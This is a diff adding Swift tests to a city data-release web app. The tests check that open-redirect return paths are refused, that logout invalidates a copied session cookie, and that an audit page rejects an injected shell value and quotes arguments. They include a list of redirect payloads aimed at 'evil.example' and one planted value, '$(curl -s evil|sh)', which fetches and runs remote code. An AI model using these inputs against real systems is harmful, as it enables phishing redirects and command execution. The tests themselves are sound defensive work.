@@ -59,6 +59,63 @@ struct WebPagesTests {
         }
     }
 
+    /// A browser drops tabs and line breaks from a URL and reads `\` as `/`: a return path with one
+    /// of them after its first `/` would send the person to another site from the city's own address.
+    @Test("return paths never lead to another site: tabs, spaces, control characters and backslashes refused")
+    func returnPathsStayOnThisSite() async throws {
+        try await WebFixture.with { fixture, client in
+            let hostile = [
+                "/%09/evil.example", "/%09%5Cevil.example", "/%0B/evil.example", "/%20/evil.example",
+                "/%0D%0A/evil.example", "/%5C%5Cevil.example", "//evil.example", "/%7F/evil.example",
+                "https://evil.example", "evil.example", "/antraege%5C..%5C..",
+            ]
+            let visitor = Browser(client)
+            for path in hostile {
+                let switched = try await visitor.get("/sprache/en?zurueck=\(path)")
+                #expect(switched.status == 303)
+                #expect(switched.location == "/", "\(path)")
+            }
+            let anna = Browser(client)
+            try await anna.login("anna")
+            for path in hostile {
+                let page = try await anna.get("/anmelden?weiter=\(path)")
+                #expect(page.status == 303)
+                #expect(page.location == "/", "\(path)")
+            }
+            #expect(try await anna.get("/anmelden?weiter=%2Feingang%3Fseite%3D2").location == "/eingang?seite=2")
+            #expect(WebPages.safeLocalPath("/katalog?q=B%C3%A4ume") == "/katalog?q=B%C3%A4ume")
+            #expect(WebPages.safeLocalPath("/katalog?q=Bäume") == "/katalog?q=Bäume")
+        }
+    }
+
+    /// An active session keeps its id when its expiry moves forward, so logout ends the only id there
+    /// is: a cookie copied before (a shared computer, a proxy) does not outlive the logout.
+    @Test("an active session keeps its id, and logout ends it for a copy of the cookie taken earlier")
+    func refreshKeepsTheSessionID() async throws {
+        try await WebFixture.with { fixture, client in
+            let anna = Browser(client)
+            try await anna.login("anna")
+            let copied = try #require(anna.cookies["freigabe-session"])
+            let sessionsBefore = try await fixture.allCounts()["web_sessions"]
+            fixture.clock.advance(days: 2.0 / 1440)
+            let start = try await anna.get("/")
+            #expect(start.status == 200)
+            #expect(anna.cookies["freigabe-session"] == copied, "the refresh kept the id")
+            fixture.clock.advance(days: 2.0 / 1440)
+            #expect(try await anna.get("/eingang").status == 200)
+            #expect(try await fixture.allCounts()["web_sessions"] == sessionsBefore, "no row per refresh")
+
+            let thief = Browser(client)
+            thief.cookies["freigabe-session"] = copied
+            #expect(try await thief.get("/eingang").status == 200, "the copy works while anna is logged in")
+            let logout = try await anna.post("/abmelden", [], csrf: start.hidden("_csrf"))
+            #expect(logout.status == 303)
+            let after = try await thief.get("/eingang")
+            #expect(after.status == 303)
+            #expect(after.location?.hasPrefix("/anmelden?weiter=") == true)
+        }
+    }
+
     @Test("https: the __Host- cookies are Secure, HSTS is sent")
     func secureCookieOverHTTPS() async throws {
         try await WebFixture.with(settings: WebSettings(publicURL: URL(string: "https://freigabe.stadt.example")!)) {
@@ -629,6 +686,19 @@ struct AuditPageTests {
             #expect(bad.status == 400)
             #expect(bad.html.contains("Ungültige Auswahl"))
             #expect(!bad.html.contains("<script>"))
+            // A selection with an error offers no command to copy; a valid one quotes what a shell would read.
+            let planted = try await alex.get("/pruefung?person=%24(curl%20-s%20evil%7Csh)")
+            #expect(planted.status == 400)
+            #expect(!planted.html.contains("audit export"))
+            let valid = try await alex.get("/pruefung?dataset=baumkataster")
+            #expect(
+                valid.html.contains(
+                    "freigabe audit export --format jsonl --output pruefung.jsonl --dataset baumkataster"))
+            #expect(AuditPages.shellQuoted("baumkataster") == "baumkataster")
+            #expect(AuditPages.shellQuoted("2026-03-01T00:00:00+01:00") == "2026-03-01T00:00:00+01:00")
+            #expect(AuditPages.shellQuoted("a b;c") == "'a b;c'")
+            #expect(AuditPages.shellQuoted("it's") == "'it'\\''s'")
+            #expect(AuditPages.shellQuoted("") == "''")
 
             // Newest first: the places the other way round; the download and the command keep the log's
             // order (no `order` in them); a made-up order is refused and nothing is read.
